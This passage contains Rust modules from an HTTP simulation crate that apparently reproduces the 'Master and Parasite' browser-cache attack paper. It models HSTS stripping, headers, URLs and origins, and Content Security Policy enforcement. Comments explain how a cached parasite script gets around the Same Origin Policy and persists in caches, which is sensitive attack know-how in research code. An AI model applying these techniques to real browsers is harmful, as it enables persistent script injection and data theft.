        let parsed = Response::from_wire(&wire).unwrap();
        assert_eq!(parsed.body.as_text(), "function genuine(){}");
    }

    #[test]
    fn responses_without_content_length_keep_all_bytes() {
        let wire = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>all of this</html>";
        let parsed = Response::from_wire(wire).unwrap();
        assert_eq!(parsed.body.as_text(), "<html>all of this</html>");
    }
}
