//! HTTP Strict Transport Security (HSTS) and SSL stripping.
//!
//! The paper measured that of 13 419 HTTP(S) responders in the 15K-top Alexa
//! list, 67.92 % sent no HSTS header at all and only 545 appeared in Chrome's
//! preload list, leaving up to 96.59 % of domains strippable to HTTP where the
//! TCP injection applies (§V, Discussion). This module models the HSTS header,
//! a browser-side HSTS store with preload entries, and the stripping decision.

use crate::headers::{names, HeaderMap};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// A parsed `Strict-Transport-Security` policy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct HstsPolicy {
    /// `max-age` in seconds.
    pub max_age: u64,
    /// Whether subdomains are covered.
    pub include_subdomains: bool,
    /// Whether the site requests preloading.
    pub preload: bool,
}

impl HstsPolicy {
    /// Parses a `Strict-Transport-Security` header value.
    ///
    /// Returns `None` if the mandatory `max-age` directive is missing.
    pub fn parse(value: &str) -> Option<Self> {
        let mut max_age = None;
        let mut include_subdomains = false;
        let mut preload = false;
        for token in value.split(';') {
            let token = token.trim().to_ascii_lowercase();
            if let Some(arg) = token.strip_prefix("max-age=") {
                max_age = arg.trim_matches('"').parse().ok();
            } else if token == "includesubdomains" {
                include_subdomains = true;
            } else if token == "preload" {
                preload = true;
            }
        }
        Some(HstsPolicy {
            max_age: max_age?,
            include_subdomains,
            preload,
        })
    }

    /// Extracts the policy from response headers.
    pub fn from_headers(headers: &HeaderMap) -> Option<Self> {
        headers
            .get(names::STRICT_TRANSPORT_SECURITY)
            .and_then(HstsPolicy::parse)
    }

    /// Renders the header value.
    pub fn to_header_value(&self) -> String {
        let mut value = format!("max-age={}", self.max_age);
        if self.include_subdomains {
            value.push_str("; includeSubDomains");
        }
        if self.preload {
            value.push_str("; preload");
        }
        value
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct StoredPolicy {
    policy: HstsPolicy,
    /// Absolute expiry, simulation seconds.
    expires_at: u64,
}

/// Browser-side HSTS state: dynamic entries learnt from headers plus the
/// built-in preload list.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct HstsStore {
    dynamic: HashMap<String, StoredPolicy>,
    preload: Vec<String>,
}

impl HstsStore {
    /// Creates an empty store with no preload entries.
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates a store with the given preloaded hosts.
    pub fn with_preload(hosts: impl IntoIterator<Item = String>) -> Self {
        HstsStore {
            dynamic: HashMap::new(),
            preload: hosts.into_iter().map(|h| h.to_ascii_lowercase()).collect(),
        }
    }

    /// Number of dynamic entries currently stored.
    pub fn dynamic_len(&self) -> usize {
        self.dynamic.len()
    }

    /// Records a policy received from `host` at time `now` (seconds).
    ///
    /// Important nuance the attack depends on: HSTS headers are only honoured
    /// when received over HTTPS. A spoofed HTTP response cannot plant *or*
    /// refresh HSTS state, and conversely the attacker strips the header from
    /// responses it forges.
    pub fn observe(&mut self, host: &str, policy: HstsPolicy, now: u64, over_https: bool) {
        if !over_https {
            return;
        }
        let host = host.to_ascii_lowercase();
        if policy.max_age == 0 {
            self.dynamic.remove(&host);
            return;
        }
        self.dynamic.insert(
            host,
            StoredPolicy {
                policy,
                expires_at: now.saturating_add(policy.max_age),
            },
        );
    }

    /// Returns `true` if requests to `host` must be upgraded to HTTPS at `now`.
    pub fn must_upgrade(&self, host: &str, now: u64) -> bool {
        let host = host.to_ascii_lowercase();
        if self.preload.iter().any(|p| {
            *p == host || host.ends_with(&format!(".{p}"))
        }) {
            return true;
        }
        // Exact-host dynamic match.
        if let Some(stored) = self.dynamic.get(&host) {
            if stored.expires_at > now {
                return true;
            }
        }
        // Parent-domain matches with includeSubDomains.
        let mut labels: Vec<&str> = host.split('.').collect();
        while labels.len() > 2 {
            labels.remove(0);
            let parent = labels.join(".");
            if let Some(stored) = self.dynamic.get(&parent) {
                if stored.expires_at > now && stored.policy.include_subdomains {
                    return true;
                }
            }
        }
        false
    }

    /// Returns `true` if an active network attacker can strip `host` down to
    /// plain HTTP at `now` (no preload entry and no unexpired dynamic entry).
    pub fn strippable(&self, host: &str, now: u64) -> bool {
        !self.must_upgrade(host, now)
    }

    /// Clears dynamic entries (what "clear browsing data" does); preload
    /// entries survive because they ship with the browser binary.
    pub fn clear_dynamic(&mut self) {
        self.dynamic.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_policy_variants() {
        let p = HstsPolicy::parse("max-age=63072000; includeSubDomains; preload").unwrap();
        assert_eq!(p.max_age, 63_072_000);
        assert!(p.include_subdomains && p.preload);
        assert!(HstsPolicy::parse("includeSubDomains").is_none(), "max-age is mandatory");
        let roundtrip = HstsPolicy::parse(&p.to_header_value()).unwrap();
        assert_eq!(roundtrip, p);
    }

    #[test]
    fn https_only_observation() {
        let mut store = HstsStore::new();
        let policy = HstsPolicy { max_age: 1000, include_subdomains: false, preload: false };
        store.observe("bank.example", policy, 0, false);
        assert!(store.strippable("bank.example", 10), "HSTS over HTTP must be ignored");
        store.observe("bank.example", policy, 0, true);
        assert!(!store.strippable("bank.example", 10));
        assert_eq!(store.dynamic_len(), 1);
    }

    #[test]
    fn dynamic_entries_expire() {
        let mut store = HstsStore::new();
        let policy = HstsPolicy { max_age: 100, include_subdomains: false, preload: false };
        store.observe("shop.example", policy, 1000, true);
        assert!(store.must_upgrade("shop.example", 1050));
        assert!(!store.must_upgrade("shop.example", 1101));
        assert!(store.strippable("shop.example", 1101));
    }

    #[test]
    fn preload_list_always_wins() {
        let store = HstsStore::with_preload(vec!["paypal.example".to_string()]);
        assert!(store.must_upgrade("paypal.example", 0));
        assert!(store.must_upgrade("www.paypal.example", u64::MAX / 2));
        assert!(store.strippable("other.example", 0));
    }

    #[test]
    fn include_subdomains_covers_children_only_when_set() {
        let mut store = HstsStore::new();
        store.observe(
            "example.com",
            HstsPolicy { max_age: 1000, include_subdomains: true, preload: false },
            0,
            true,
        );
        assert!(store.must_upgrade("login.example.com", 10));
        store.observe(
            "narrow.org",
            HstsPolicy { max_age: 1000, include_subdomains: false, preload: false },
            0,
            true,
        );
        assert!(!store.must_upgrade("sub.narrow.org", 10));
    }

    #[test]
    fn max_age_zero_deletes_the_entry() {
        let mut store = HstsStore::new();
        store.observe("a.example", HstsPolicy { max_age: 1000, include_subdomains: false, preload: false }, 0, true);
        store.observe("a.example", HstsPolicy { max_age: 0, include_subdomains: false, preload: false }, 5, true);
        assert!(store.strippable("a.example", 6));
    }

    #[test]
    fn clearing_dynamic_state_keeps_preload() {
        let mut store = HstsStore::with_preload(vec!["bank.example".to_string()]);
        store.observe("mail.example", HstsPolicy { max_age: 99999, include_subdomains: false, preload: false }, 0, true);
        store.clear_dynamic();
        assert!(store.must_upgrade("bank.example", 0));
        assert!(store.strippable("mail.example", 0));
    }
}
