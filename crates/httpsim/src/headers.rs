//! Case-insensitive HTTP header map.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Well-known header names used throughout the reproduction.
pub mod names {
    /// `Cache-Control`.
    pub const CACHE_CONTROL: &str = "cache-control";
    /// `Expires`.
    pub const EXPIRES: &str = "expires";
    /// `ETag`.
    pub const ETAG: &str = "etag";
    /// `Last-Modified`.
    pub const LAST_MODIFIED: &str = "last-modified";
    /// `If-None-Match`.
    pub const IF_NONE_MATCH: &str = "if-none-match";
    /// `If-Modified-Since`.
    pub const IF_MODIFIED_SINCE: &str = "if-modified-since";
    /// `Age`.
    pub const AGE: &str = "age";
    /// `Date`.
    pub const DATE: &str = "date";
    /// `Host`.
    pub const HOST: &str = "host";
    /// `Content-Type`.
    pub const CONTENT_TYPE: &str = "content-type";
    /// `Content-Length`.
    pub const CONTENT_LENGTH: &str = "content-length";
    /// `Set-Cookie`.
    pub const SET_COOKIE: &str = "set-cookie";
    /// `Cookie`.
    pub const COOKIE: &str = "cookie";
    /// `Strict-Transport-Security`.
    pub const STRICT_TRANSPORT_SECURITY: &str = "strict-transport-security";
    /// `Content-Security-Policy`.
    pub const CONTENT_SECURITY_POLICY: &str = "content-security-policy";
    /// `X-Content-Security-Policy` (deprecated).
    pub const X_CONTENT_SECURITY_POLICY: &str = "x-content-security-policy";
    /// `X-Webkit-CSP` (deprecated).
    pub const X_WEBKIT_CSP: &str = "x-webkit-csp";
    /// `X-Frame-Options`.
    pub const X_FRAME_OPTIONS: &str = "x-frame-options";
    /// `Vary`.
    pub const VARY: &str = "vary";
    /// `User-Agent`.
    pub const USER_AGENT: &str = "user-agent";
    /// `Referer`.
    pub const REFERER: &str = "referer";
    /// `Location`.
    pub const LOCATION: &str = "location";
    /// `Pragma`.
    pub const PRAGMA: &str = "pragma";
}

/// An ordered, case-insensitive multimap of HTTP headers.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct HeaderMap {
    entries: Vec<(String, String)>,
}

impl HeaderMap {
    /// Creates an empty header map.
    pub fn new() -> Self {
        Self::default()
    }

    fn normalise(name: &str) -> String {
        name.to_ascii_lowercase()
    }

    /// Sets a header, replacing all previous values for the same name.
    pub fn set(&mut self, name: &str, value: impl Into<String>) {
        let name = Self::normalise(name);
        self.entries.retain(|(n, _)| *n != name);
        self.entries.push((name, value.into()));
    }

    /// Appends a header value, keeping existing values (used for
    /// `Set-Cookie`, which may legitimately repeat).
    pub fn append(&mut self, name: &str, value: impl Into<String>) {
        self.entries.push((Self::normalise(name), value.into()));
    }

    /// Returns the first value for `name`, if present.
    pub fn get(&self, name: &str) -> Option<&str> {
        let name = Self::normalise(name);
        self.entries
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, v)| v.as_str())
    }

    /// Returns every value for `name`.
    pub fn get_all(&self, name: &str) -> Vec<&str> {
        let name = Self::normalise(name);
        self.entries
            .iter()
            .filter(|(n, _)| *n == name)
            .map(|(_, v)| v.as_str())
            .collect()
    }

    /// Returns `true` if `name` is present.
    pub fn contains(&self, name: &str) -> bool {
        self.get(name).is_some()
    }

    /// Removes all values for `name`, returning `true` if anything was removed.
    pub fn remove(&mut self, name: &str) -> bool {
        let name = Self::normalise(name);
        let before = self.entries.len();
        self.entries.retain(|(n, _)| *n != name);
        before != self.entries.len()
    }

    /// Number of header lines.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Returns `true` if there are no headers.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Iterates over `(name, value)` pairs in insertion order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &str)> {
        self.entries.iter().map(|(n, v)| (n.as_str(), v.as_str()))
    }

    /// Serialises the headers as HTTP/1.1 header lines (without the trailing
    /// blank line).
    pub fn to_wire(&self) -> String {
        let mut out = String::new();
        for (name, value) in &self.entries {
            out.push_str(&title_case(name));
            out.push_str(": ");
            out.push_str(value);
            out.push_str("\r\n");
        }
        out
    }
}

impl FromIterator<(String, String)> for HeaderMap {
    fn from_iter<T: IntoIterator<Item = (String, String)>>(iter: T) -> Self {
        let mut map = HeaderMap::new();
        for (name, value) in iter {
            map.append(&name, value);
        }
        map
    }
}

impl Extend<(String, String)> for HeaderMap {
    fn extend<T: IntoIterator<Item = (String, String)>>(&mut self, iter: T) {
        for (name, value) in iter {
            self.append(&name, value);
        }
    }
}

/// Converts a lowercase header name to the conventional Title-Case wire form.
fn title_case(name: &str) -> String {
    name.split('-')
        .map(|part| {
            let mut chars = part.chars();
            match chars.next() {
                Some(first) => first.to_ascii_uppercase().to_string() + chars.as_str(),
                None => String::new(),
            }
        })
        .collect::<Vec<_>>()
        .join("-")
}

impl fmt::Display for HeaderMap {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_wire())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn set_and_get_is_case_insensitive() {
        let mut headers = HeaderMap::new();
        headers.set("Cache-Control", "max-age=3600");
        assert_eq!(headers.get("cache-control"), Some("max-age=3600"));
        assert_eq!(headers.get("CACHE-CONTROL"), Some("max-age=3600"));
        assert!(headers.contains("Cache-Control"));
    }

    #[test]
    fn set_replaces_but_append_accumulates() {
        let mut headers = HeaderMap::new();
        headers.append("Set-Cookie", "a=1");
        headers.append("Set-Cookie", "b=2");
        assert_eq!(headers.get_all("set-cookie"), vec!["a=1", "b=2"]);
        headers.set("Set-Cookie", "c=3");
        assert_eq!(headers.get_all("set-cookie"), vec!["c=3"]);
    }

    #[test]
    fn remove_reports_whether_anything_was_removed() {
        let mut headers = HeaderMap::new();
        headers.set("ETag", "\"abc\"");
        assert!(headers.remove("etag"));
        assert!(!headers.remove("etag"));
        assert!(headers.is_empty());
    }

    #[test]
    fn wire_form_uses_title_case_and_crlf() {
        let mut headers = HeaderMap::new();
        headers.set("content-type", "text/javascript");
        headers.set("strict-transport-security", "max-age=63072000");
        let wire = headers.to_wire();
        assert!(wire.contains("Content-Type: text/javascript\r\n"));
        assert!(wire.contains("Strict-Transport-Security: max-age=63072000\r\n"));
    }

    #[test]
    fn collect_from_iterator() {
        let headers: HeaderMap = vec![
            ("Host".to_string(), "example.org".to_string()),
            ("Accept".to_string(), "*/*".to_string()),
        ]
        .into_iter()
        .collect();
        assert_eq!(headers.len(), 2);
        assert_eq!(headers.get("host"), Some("example.org"));
    }
}
