//! # mp-httpsim
//!
//! HTTP/1.1 message, caching-semantics and web-security-policy models used by
//! the *Master and Parasite Attack* reproduction.
//!
//! The attack lives entirely at the HTTP layer once the transport injection
//! has happened: the parasite's persistence depends on `Cache-Control`
//! headers, its cross-domain propagation depends on the absence of CSP/SRI,
//! and its injectability depends on whether the site uses HTTPS, vulnerable
//! SSL versions or is missing HSTS. This crate models each of those pieces
//! faithfully enough that the paper's measurements (§V discussion, §VIII and
//! Figure 5) can be regenerated:
//!
//! * [`url`] — origins and URLs (the unit of the Same Origin Policy),
//! * [`message`] — requests and responses with full header access and an
//!   HTTP/1.1 wire form that can travel over `mp-netsim` TCP connections,
//! * [`headers`] — a case-insensitive header map,
//! * [`caching`] — RFC 7234-style freshness, validators and conditional
//!   requests (the machinery the parasite abuses to pin itself in caches),
//! * [`cookies`] — a cookie jar (Table III: parasites survive cache clearing
//!   but are removed together with cookies/site data),
//! * [`tls`] — TLS/SSL version and certificate model,
//! * [`hsts`] — HSTS policies, the preload list and SSL stripping,
//! * [`csp`] — Content-Security-Policy parsing and enforcement,
//! * [`sri`] — Subresource Integrity digests,
//! * [`body`] — resource kinds (HTML, JavaScript, images, SVG) and bodies.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod body;
pub mod caching;
pub mod cookies;
pub mod csp;
pub mod error;
pub mod headers;
pub mod hsts;
pub mod message;
pub mod sri;
pub mod tls;
pub mod transport;
pub mod url;

pub use body::{Body, ResourceKind};
pub use caching::{CacheDirectives, Freshness};
pub use error::HttpError;
pub use headers::HeaderMap;
pub use message::{Method, Request, Response, StatusCode};
pub use transport::{Exchange, Internet, StaticOrigin};
pub use url::{Origin, Scheme, Url};
