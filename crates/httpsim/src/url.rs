//! URLs, schemes and origins.
//!
//! Origins are the unit of the Same Origin Policy that the parasite has to
//! work around: a script cached under `https://bank.example/app.js` runs with
//! the bank's origin, which is exactly why camouflaging the parasite as that
//! file (rather than serving it from an attacker domain) bypasses SOP.

use crate::error::HttpError;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// URL scheme. Only the web schemes the paper cares about are modelled.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Scheme {
    /// Cleartext HTTP — injectable by the eavesdropping master.
    Http,
    /// HTTPS — injectable only when the site's TLS deployment is broken
    /// (vulnerable SSL version, fraudulent certificate, or stripped).
    Https,
}

impl Scheme {
    /// Default TCP port for the scheme.
    pub fn default_port(self) -> u16 {
        match self {
            Scheme::Http => 80,
            Scheme::Https => 443,
        }
    }

    /// String form (`"http"` / `"https"`).
    pub fn as_str(self) -> &'static str {
        match self {
            Scheme::Http => "http",
            Scheme::Https => "https",
        }
    }
}

impl fmt::Display for Scheme {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A web origin: scheme, host and port — the SOP isolation boundary.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Origin {
    /// Scheme.
    pub scheme: Scheme,
    /// Hostname (lowercase).
    pub host: String,
    /// Port.
    pub port: u16,
}

impl Origin {
    /// Creates an origin with the scheme's default port.
    pub fn new(scheme: Scheme, host: impl Into<String>) -> Self {
        let host = host.into().to_ascii_lowercase();
        Origin {
            scheme,
            port: scheme.default_port(),
            host,
        }
    }

    /// Creates an origin with an explicit port.
    pub fn with_port(scheme: Scheme, host: impl Into<String>, port: u16) -> Self {
        Origin {
            scheme,
            host: host.into().to_ascii_lowercase(),
            port,
        }
    }

    /// Returns the registrable domain heuristic used for cookie scoping and
    /// cache partitioning: the last two labels of the hostname.
    pub fn site(&self) -> String {
        let labels: Vec<&str> = self.host.split('.').collect();
        if labels.len() <= 2 {
            self.host.clone()
        } else {
            labels[labels.len() - 2..].join(".")
        }
    }
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.port == self.scheme.default_port() {
            write!(f, "{}://{}", self.scheme, self.host)
        } else {
            write!(f, "{}://{}:{}", self.scheme, self.host, self.port)
        }
    }
}

/// A parsed URL.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Url {
    /// Scheme.
    pub scheme: Scheme,
    /// Hostname (lowercase).
    pub host: String,
    /// Port (explicit or the scheme default).
    pub port: u16,
    /// Path, always beginning with `/`.
    pub path: String,
    /// Query string without the leading `?`, if any.
    pub query: Option<String>,
}

impl Url {
    /// Parses a URL from a string.
    ///
    /// # Errors
    ///
    /// Returns [`HttpError::InvalidUrl`] when the scheme is missing/unknown or
    /// the host is empty.
    pub fn parse(input: &str) -> Result<Self, HttpError> {
        let (scheme, rest) = if let Some(rest) = input.strip_prefix("https://") {
            (Scheme::Https, rest)
        } else if let Some(rest) = input.strip_prefix("http://") {
            (Scheme::Http, rest)
        } else {
            return Err(HttpError::InvalidUrl {
                input: input.to_string(),
                reason: "missing or unsupported scheme".into(),
            });
        };

        let (authority, path_and_query) = match rest.find('/') {
            Some(idx) => (&rest[..idx], &rest[idx..]),
            None => (rest, "/"),
        };
        if authority.is_empty() {
            return Err(HttpError::InvalidUrl {
                input: input.to_string(),
                reason: "empty host".into(),
            });
        }
        let (host, port) = match authority.rsplit_once(':') {
            Some((h, p)) if p.chars().all(|c| c.is_ascii_digit()) && !p.is_empty() => {
                let port = p.parse().map_err(|_| HttpError::InvalidUrl {
                    input: input.to_string(),
                    reason: "invalid port".into(),
                })?;
                (h.to_string(), port)
            }
            _ => (authority.to_string(), scheme.default_port()),
        };
        if host.is_empty() {
            return Err(HttpError::InvalidUrl {
                input: input.to_string(),
                reason: "empty host".into(),
            });
        }

        let (path, query) = match path_and_query.split_once('?') {
            Some((p, q)) => (p.to_string(), Some(q.to_string())),
            None => (path_and_query.to_string(), None),
        };

        Ok(Url {
            scheme,
            host: host.to_ascii_lowercase(),
            port,
            path,
            query,
        })
    }

    /// Builds a URL from parts without parsing.
    pub fn from_parts(scheme: Scheme, host: impl Into<String>, path: impl Into<String>) -> Self {
        let host = host.into().to_ascii_lowercase();
        let mut path = path.into();
        if !path.starts_with('/') {
            path.insert(0, '/');
        }
        Url {
            scheme,
            port: scheme.default_port(),
            host,
            path,
            query: None,
        }
    }

    /// Returns the URL's origin.
    pub fn origin(&self) -> Origin {
        Origin::with_port(self.scheme, self.host.clone(), self.port)
    }

    /// Returns the cache key the paper's browsers use: scheme, host, port,
    /// path and query (i.e. the full URL without fragments).
    pub fn cache_key(&self) -> String {
        self.to_string()
    }

    /// Returns a copy of the URL with a different query string. Passing
    /// `None` removes the query.
    ///
    /// The parasite uses this (`?t=500198` style) to re-fetch the *original*
    /// object under a different cache key so the page keeps working after the
    /// infected copy replaced it (paper §V, steps 3–4), and the random-query
    /// countermeasure in §VIII is the same operation applied defensively.
    pub fn with_query(&self, query: Option<&str>) -> Url {
        Url {
            query: query.map(|q| q.to_string()),
            ..self.clone()
        }
    }

    /// Returns the file name portion of the path, if any.
    pub fn file_name(&self) -> Option<&str> {
        self.path.rsplit('/').next().filter(|s| !s.is_empty())
    }

    /// Returns `true` if both URLs share an origin (SOP check).
    pub fn same_origin(&self, other: &Url) -> bool {
        self.origin() == other.origin()
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}{}", self.origin(), self.path)?;
        if let Some(q) = &self.query {
            write!(f, "?{q}")?;
        }
        Ok(())
    }
}

impl FromStr for Url {
    type Err = HttpError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Url::parse(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_basic_http_url() {
        let url = Url::parse("http://somesite.com/my.js").unwrap();
        assert_eq!(url.scheme, Scheme::Http);
        assert_eq!(url.host, "somesite.com");
        assert_eq!(url.port, 80);
        assert_eq!(url.path, "/my.js");
        assert_eq!(url.query, None);
        assert_eq!(url.to_string(), "http://somesite.com/my.js");
    }

    #[test]
    fn parse_https_with_port_query_and_case() {
        let url = Url::parse("https://Bank.Example:8443/login?next=/account").unwrap();
        assert_eq!(url.scheme, Scheme::Https);
        assert_eq!(url.host, "bank.example");
        assert_eq!(url.port, 8443);
        assert_eq!(url.query.as_deref(), Some("next=/account"));
        assert_eq!(url.to_string(), "https://bank.example:8443/login?next=/account");
    }

    #[test]
    fn parse_rejects_missing_scheme_and_empty_host() {
        assert!(Url::parse("ftp://example.org/x").is_err());
        assert!(Url::parse("somesite.com/my.js").is_err());
        assert!(Url::parse("http:///my.js").is_err());
    }

    #[test]
    fn host_without_path_gets_root() {
        let url = Url::parse("http://example.org").unwrap();
        assert_eq!(url.path, "/");
    }

    #[test]
    fn origin_and_same_origin_policy() {
        let a = Url::parse("http://a.example.com/x.js").unwrap();
        let b = Url::parse("http://a.example.com/other/path.js").unwrap();
        let c = Url::parse("https://a.example.com/x.js").unwrap();
        let d = Url::parse("http://b.example.com/x.js").unwrap();
        assert!(a.same_origin(&b));
        assert!(!a.same_origin(&c), "scheme is part of the origin");
        assert!(!a.same_origin(&d), "host is part of the origin");
        assert_eq!(a.origin().site(), "example.com");
    }

    #[test]
    fn with_query_changes_cache_key() {
        let url = Url::parse("http://somesite.com/my.js").unwrap();
        let busted = url.with_query(Some("t=500198"));
        assert_eq!(busted.to_string(), "http://somesite.com/my.js?t=500198");
        assert_ne!(url.cache_key(), busted.cache_key());
        assert_eq!(busted.with_query(None), url);
    }

    #[test]
    fn file_name_extraction() {
        assert_eq!(
            Url::parse("http://x.com/static/js/jquery.js").unwrap().file_name(),
            Some("jquery.js")
        );
        assert_eq!(Url::parse("http://x.com/").unwrap().file_name(), None);
    }

    #[test]
    fn display_omits_default_port_only() {
        let implicit = Url::parse("https://x.com/a").unwrap();
        assert_eq!(implicit.to_string(), "https://x.com/a");
        let explicit = Url::parse("https://x.com:444/a").unwrap();
        assert_eq!(explicit.to_string(), "https://x.com:444/a");
    }

    #[test]
    fn from_parts_normalises_path() {
        let url = Url::from_parts(Scheme::Http, "Example.COM", "app.js");
        assert_eq!(url.to_string(), "http://example.com/app.js");
    }
}
