//! Content Security Policy parsing and enforcement.
//!
//! CSP is the countermeasure the paper analyses most closely (§VIII,
//! Figure 5): only ≈4.33 % of the 15K-top pages deploy it, 15.3 % of those use
//! a deprecated header name, and of 160 observed `connect-src` directives 17
//! use a wildcard that defeats the purpose. This module models the header
//! names (current and deprecated), directive parsing, source-list matching and
//! the enforcement decisions the browser performs when the parasite tries to
//! exfiltrate data or frame other sites.

use crate::headers::{names, HeaderMap};
use crate::url::Url;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;

/// Which header variant carried the policy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum CspVersion {
    /// The standard `Content-Security-Policy` header.
    Standard,
    /// The deprecated `X-Content-Security-Policy` header.
    XContentSecurityPolicy,
    /// The deprecated `X-Webkit-CSP` header.
    XWebkitCsp,
}

impl CspVersion {
    /// Returns `true` for the deprecated prefixed header names.
    pub fn is_deprecated(self) -> bool {
        !matches!(self, CspVersion::Standard)
    }
}

impl fmt::Display for CspVersion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            CspVersion::Standard => "Content-Security-Policy",
            CspVersion::XContentSecurityPolicy => "X-Content-Security-Policy",
            CspVersion::XWebkitCsp => "X-Webkit-CSP",
        };
        f.write_str(name)
    }
}

/// CSP directives the reproduction enforces.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Directive {
    /// `default-src`.
    DefaultSrc,
    /// `script-src`.
    ScriptSrc,
    /// `img-src` — governs the C&C downstream channel's image loads.
    ImgSrc,
    /// `connect-src` — governs XHR/WebSocket exfiltration.
    ConnectSrc,
    /// `frame-src` — governs the iframe propagation vector.
    FrameSrc,
    /// `style-src`.
    StyleSrc,
}

impl Directive {
    fn parse(token: &str) -> Option<Directive> {
        match token {
            "default-src" => Some(Directive::DefaultSrc),
            "script-src" => Some(Directive::ScriptSrc),
            "img-src" => Some(Directive::ImgSrc),
            "connect-src" => Some(Directive::ConnectSrc),
            "frame-src" => Some(Directive::FrameSrc),
            "style-src" => Some(Directive::StyleSrc),
            _ => None,
        }
    }

    /// Wire name of the directive.
    pub fn as_str(self) -> &'static str {
        match self {
            Directive::DefaultSrc => "default-src",
            Directive::ScriptSrc => "script-src",
            Directive::ImgSrc => "img-src",
            Directive::ConnectSrc => "connect-src",
            Directive::FrameSrc => "frame-src",
            Directive::StyleSrc => "style-src",
        }
    }
}

/// A single source expression in a directive's source list.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Source {
    /// `*` — matches any origin; the misconfiguration Figure 5 calls out.
    Wildcard,
    /// `'self'`.
    SelfOrigin,
    /// `'none'`.
    None,
    /// `'unsafe-inline'`.
    UnsafeInline,
    /// A host pattern, e.g. `https://cdn.example.com` or `*.example.com`.
    Host(String),
}

impl Source {
    fn parse(token: &str) -> Source {
        match token {
            "*" => Source::Wildcard,
            "'self'" => Source::SelfOrigin,
            "'none'" => Source::None,
            "'unsafe-inline'" => Source::UnsafeInline,
            other => Source::Host(other.to_ascii_lowercase()),
        }
    }

    fn matches(&self, document: &Url, target: &Url) -> bool {
        match self {
            Source::Wildcard => true,
            Source::SelfOrigin => document.same_origin(target),
            Source::None => false,
            Source::UnsafeInline => false,
            Source::Host(pattern) => host_pattern_matches(pattern, target),
        }
    }
}

fn host_pattern_matches(pattern: &str, target: &Url) -> bool {
    // Strip an optional scheme prefix.
    let (scheme, host_part) = match pattern.split_once("://") {
        Some((s, h)) => (Some(s), h),
        None => (None, pattern),
    };
    if let Some(scheme) = scheme {
        if scheme != target.scheme.as_str() {
            return false;
        }
    }
    let host_part = host_part.trim_end_matches('/');
    if let Some(suffix) = host_part.strip_prefix("*.") {
        target.host.ends_with(suffix) && target.host != suffix
    } else {
        target.host == host_part
    }
}

/// A parsed Content Security Policy.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ContentSecurityPolicy {
    /// Which header variant delivered the policy.
    pub version: CspVersion,
    directives: BTreeMap<Directive, Vec<Source>>,
}

impl ContentSecurityPolicy {
    /// Parses a policy string such as
    /// `"default-src 'self'; img-src *; connect-src 'self' api.example.com"`.
    pub fn parse(version: CspVersion, value: &str) -> Self {
        let mut directives = BTreeMap::new();
        for clause in value.split(';') {
            let mut tokens = clause.split_whitespace();
            let Some(name) = tokens.next() else { continue };
            let Some(directive) = Directive::parse(&name.to_ascii_lowercase()) else {
                continue;
            };
            let sources: Vec<Source> = tokens.map(Source::parse).collect();
            directives.insert(directive, sources);
        }
        ContentSecurityPolicy { version, directives }
    }

    /// Extracts a policy from response headers, honouring the deprecated
    /// header names the measurement in Figure 5 tracks.
    pub fn from_headers(headers: &HeaderMap) -> Option<Self> {
        if let Some(value) = headers.get(names::CONTENT_SECURITY_POLICY) {
            return Some(Self::parse(CspVersion::Standard, value));
        }
        if let Some(value) = headers.get(names::X_CONTENT_SECURITY_POLICY) {
            return Some(Self::parse(CspVersion::XContentSecurityPolicy, value));
        }
        if let Some(value) = headers.get(names::X_WEBKIT_CSP) {
            return Some(Self::parse(CspVersion::XWebkitCsp, value));
        }
        None
    }

    /// Returns the source list for a directive, falling back to `default-src`.
    pub fn sources_for(&self, directive: Directive) -> Option<&[Source]> {
        self.directives
            .get(&directive)
            .or_else(|| self.directives.get(&Directive::DefaultSrc))
            .map(|v| v.as_slice())
    }

    /// Returns `true` if the policy defines the directive explicitly
    /// (not via `default-src`).
    pub fn defines(&self, directive: Directive) -> bool {
        self.directives.contains_key(&directive)
    }

    /// Returns `true` if the policy has no directives at all (supplied header
    /// with an empty or unparseable value — counted by the measurement as
    /// "CSP supplied but no rules").
    pub fn is_empty(&self) -> bool {
        self.directives.is_empty()
    }

